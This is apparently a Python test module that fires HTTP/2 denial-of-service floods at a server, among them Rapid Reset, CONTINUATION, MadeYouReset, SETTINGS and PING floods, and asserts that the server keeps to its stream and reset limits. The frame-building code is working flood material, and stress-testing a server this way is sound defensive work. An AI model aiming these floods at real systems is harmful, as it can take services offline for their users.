"""Floods: frames that cost the server more than they cost the attacker."""

import time

from security import frames
from security.attacker import Attacker
from security.connection import Connection

BURST = 100
# The limit of open streams on a connection; further streams are refused. A connection with more
# refusals than MAX_LOCAL_RESETS is closed.
STREAMS = 256
MAX_LOCAL_RESETS = 1024


def stream_ids(count: int, first: int = 1):
    return range(first, first + 2 * count, 2)


def bursts(write, count: int = BURST):
    """Endless (frames, number of frames), each burst on streams of its own. The stream ids of one
    connection end at 2^31."""
    for first in range(1, 2**31 - 2 * count, 2 * count):
        parts = [write(stream) for stream in stream_ids(count, first)]
        yield b"".join(parts)


def rapid_reset(attacker: Attacker, **how) -> None:
    """CVE-2023-44487: requests that are cancelled at once, so that they never count as concurrent."""
    block = frames.request(frames.GET)

    def attack(connection: Connection) -> None:
        connection.greet()
        pairs = bursts(lambda stream: frames.headers(stream, block) + frames.rst_stream(stream))
        for _ in attacker.until_closed(connection):
            connection.send(next(pairs), 2 * BURST)

    attacker.again(attack, **how)


def paced_reset(attacker: Attacker) -> None:
    """The same, slowly enough that each call has begun when it is cancelled. An impatient client does
    this, at a lower rate."""
    block = frames.request(frames.GET)

    def attack(connection: Connection) -> None:
        connection.greet()
        opening = bursts(lambda stream: frames.headers(stream, block))
        cancelling = bursts(frames.rst_stream)
        while attacker.running():
            connection.send(next(opening), BURST)
            connection.read_for(0.002)
            connection.send(next(cancelling), BURST)

    attacker.again(attack)


def continuation_flood(attacker: Attacker) -> None:
    """CVE-2024-27316: a header block that never ends, in frames of 0, 1 and 16,384 bytes."""
    small = frames.field("a", "")
    variants = (
        b"",
        small,
        small * (frames.LARGEST_FRAME // len(small)),
        # One header whose value never ends.
        b"b" * frames.LARGEST_FRAME,
    )
    endless_value = bytes([0]) + frames.integer(1, 7) + b"a" + frames.integer(2**27, 7)

    def attack(connection: Connection) -> None:
        payload = variants[attacker.connections % len(variants)]
        start = endless_value if payload[:1] == b"b" else frames.request(frames.GET)
        connection.greet()
        connection.send(frames.frame(frames.HEADERS, 0, 1, start))
        more = frames.frame(frames.CONTINUATION, 0, 1, payload) * 10
        for _ in attacker.until_closed(connection):
            connection.send(more, 10)

    attacker.again(attack)


def made_you_reset(attacker: Attacker) -> None:
    """CVE-2025-8671: frames that make the server reset the stream. The stream then no longer counts as
    concurrent, while its call may still run."""
    block = frames.request(frames.GET)
    call = frames.message(frames.get_request("42"))
    whole = lambda stream: frames.headers(stream, block) + frames.data(stream, call, end=True)
    opened = lambda stream: frames.headers(stream, block)
    itself = lambda stream: stream.to_bytes(4, "big") + b"\x10"
    offences = {
        "WINDOW_UPDATE of 0": lambda stream: whole(stream) + frames.window_update(stream, 0),
        "window overflow": lambda stream: (
            opened(stream) + frames.window_update(stream, frames.LARGEST_WINDOW)
        ),
        "DATA on a half-closed stream": lambda stream: whole(stream) + frames.data(stream, b"x"),
        "HEADERS on a half-closed stream": lambda stream: whole(stream) + opened(stream),
        "PRIORITY of itself": lambda stream: (
            opened(stream) + frames.frame(frames.PRIORITY, 0, stream, itself(stream))
        ),
        "HEADERS that depend on themselves": lambda stream: frames.frame(
            frames.HEADERS,
            frames.END_HEADERS | frames.WITH_PRIORITY,
            stream,
            itself(stream) + block,
        ),
        "PRIORITY of a wrong size": lambda stream: (
            opened(stream) + frames.frame(frames.PRIORITY, 0, stream, b"1234")
        ),
        "malformed headers": lambda stream: frames.headers(
            stream, block + frames.field("Upper", "case")
        ),
        "more DATA than content-length": lambda stream: (
            frames.headers(stream, block + frames.field("content-length", "1"))
            + frames.data(stream, call)
        ),
    }
    names = list(offences)

    def attack(connection: Connection) -> None:
        name = names[attacker.connections % len(names)]
        connection.greet()
        offending = bursts(offences[name])
        try:
            for _ in attacker.until_closed(connection):
                connection.send(next(offending), 2 * BURST)
                if time.monotonic() - connection.opened > 2 or not attacker.running():
                    break
        finally:
            attacker.notes[f"{name}: {connection.fate()}"] += 1
            # Refused streams beyond the limit count as well.
            resets = sum(connection.resets.values())
            attacker.expect(resets <= 2 * MAX_LOCAL_RESETS, f"{name}: more than 2,048 resets")

    attacker.again(attack)


def empty_data(attacker: Attacker) -> None:
    """CVE-2019-9518: DATA frames without data, with nothing but padding, or of one byte."""
    variants = (
        frames.data(1),
        frames.frame(frames.DATA, frames.PADDED, 1, b"\x00"),
        frames.frame(frames.DATA, frames.PADDED, 1, b"\x10" + bytes(16)),
        frames.data(1, b"\x00"),
    )

    def attack(connection: Connection) -> None:
        connection.greet()
        flood = variants[attacker.connections % len(variants)] * BURST
        connection.send(frames.headers(1, frames.request(frames.GET)))
        for _ in attacker.until_closed(connection):
            connection.send(flood, BURST)

    attacker.again(attack)


def flood(attacker: Attacker, payload: bytes, count: int, *, reads: bool = True) -> None:
    """Sends the same frames until the attack ends. A connection that is closed is replaced."""

    def attack(connection: Connection) -> None:
        connection.greet()
        while attacker.running():
            connection.send(payload, count)

    attacker.again(attack, reads=reads)


def settings_flood(attacker: Attacker) -> None:
    """CVE-2019-9515: SETTINGS frames. The server has to acknowledge each one and apply it to all streams."""
    pair = frames.settings(initial_window_size=1) + frames.settings(initial_window_size=65_535)
    flood(attacker, pair * BURST, 2 * BURST)


def ping_flood(attacker: Attacker) -> None:
    """CVE-2019-9512: PINGs. The server has to answer each one."""
    flood(attacker, frames.ping() * BURST, BURST)


def unread_acks(attacker: Attacker) -> None:
    """PINGs and SETTINGS from a client that never reads the answers. A server that queues the answers
    would grow without end."""
    pair = frames.ping() + frames.settings(initial_window_size=65_535)
    flood(attacker, pair * BURST, 2 * BURST, reads=False)


def ignored_frames(attacker: Attacker) -> None:
    """CVE-2019-9513 and others: PRIORITY, unknown frames, and WINDOW_UPDATEs of 1. They ask for nothing,
    but the server has to read them."""
    shuffle = b"".join(
        frames.frame(frames.PRIORITY, 0, stream, (stream + 2).to_bytes(4, "big") + b"\x10")
        for stream in stream_ids(BURST)
    )
    unknown = frames.frame(0xEE, 0, 0, b"?") * BURST
    updates = frames.window_update(0, 1) * BURST
    flood(attacker, shuffle + unknown + updates, 3 * BURST)


def stream_flood(attacker: Attacker) -> None:
    """Calls beyond STREAMS, none of which ever ends."""
    block = frames.request(frames.GET)

    def attack(connection: Connection) -> None:
        connection.greet()
        opening = bursts(lambda stream: frames.headers(stream, block))
        opened = 0
        try:
            for _ in attacker.until_closed(connection):
                connection.send(next(opening), BURST)
                opened += BURST
                # The server did not read frames that were on their way when it closed the connection.
                if opened <= MAX_LOCAL_RESETS:
                    connection.read_for(0.05)
                    living = opened - connection.resets["REFUSED_STREAM"]
                    attacker.expect(living <= STREAMS, "more than 256 streams")
        finally:
            attacker.notes["refused streams"] += connection.resets["REFUSED_STREAM"]

    attacker.again(attack)
